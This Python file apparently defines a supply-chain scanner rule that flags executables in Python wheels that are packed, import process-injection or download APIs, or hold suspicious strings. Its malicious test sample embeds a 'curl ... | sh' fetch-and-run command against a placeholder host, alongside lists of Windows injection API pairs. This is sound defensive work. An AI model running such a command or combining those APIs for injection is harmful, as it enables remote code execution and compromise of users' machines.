"""An executable where none belongs, that hides what it is or says what no library needs."""

from __future__ import annotations

from collections.abc import Iterator

from wheelmark.scan.executables import Executable
from wheelmark.scan.facts import Facts
from wheelmark.scan.report import Context, Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.samples import Sample, Samples

# What downloads to a file and what writes into other processes; launchers and libraries need neither.
_FETCHES = frozenset({"URLDownloadToFileA", "URLDownloadToFileW"})
_INJECTS = (
    frozenset({"WriteProcessMemory", "CreateRemoteThread"}),
    frozenset({"WriteProcessMemory", "NtUnmapViewOfSection"}),
    frozenset({"WriteProcessMemory", "QueueUserAPC"}),
)


def check(facts: Facts) -> Iterator[Evidence]:
    for path, executable in facts.executables.items():
        for severity, text in _odd(executable, is_pure=facts.is_pure):
            yield Evidence(
                severity=severity,
                member=path,
                line=0,
                context=Context.UNREACHED,
                text=f"{executable.format} {executable.machine}: {text}",
            )


def _odd(executable: Executable, *, is_pure: bool) -> Iterator[tuple[Severity, str]]:
    imports = set(executable.imports)
    if executable.texts:
        yield Severity.HIGH if is_pure else Severity.MEDIUM, f"it holds {executable.texts[0]}"
    for injects in _INJECTS:
        if injects <= imports:
            yield Severity.HIGH if is_pure else Severity.LOW, f"it imports {' and '.join(sorted(injects))}"
    if imports & _FETCHES:
        yield Severity.MEDIUM if is_pure else Severity.LOW, f"it imports {min(imports & _FETCHES)}"
    if executable.is_packed and is_pure:
        yield Severity.MEDIUM, f"it is packed ({executable.packer or 'its code has no more order than noise'})"


def _an_executable(text: bytes) -> bytes:
    """An ELF file that is nothing but a header and a text: no machine runs it."""
    return b"\x7fELF\x02\x01\x01".ljust(64, b"\0") + text


RULE = Rule(
    id="odd-executable",
    version=1,
    severity=Severity.HIGH,
    tactic=Tactic.DEFENSE_EVASION,
    message="An executable in the distribution is packed, or has texts or imports of malware and not of a library.",
    reference="https://attack.mitre.org/techniques/T1027/002/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.wheel(
                {
                    "widget/__init__.py": "VERSION = 1\n",
                    "widget/tool": _an_executable(b"curl -s https://get.example.invalid/i | sh\0"),
                }
            ),
            Sample.wheel({"widget/__init__.py": "VERSION = 1\n", "widget/tool": _an_executable(b"UPX!")}),
        ),
        benign=(
            Sample.wheel(
                {
                    "widget/__init__.py": "VERSION = 1\n",
                    "widget/_speed.so": _an_executable(b"PyInit__speed\0usage: curl https://widget.example.invalid\0"),
                }
            ),
        ),
    ),
    kept_because=(
        "One family of the development samples shows it. It is kept because packing is common in malware of other "
        "origin (https://attack.mitre.org/techniques/T1027/002/), and a reader of Python code sees nothing of it."
    ),
)
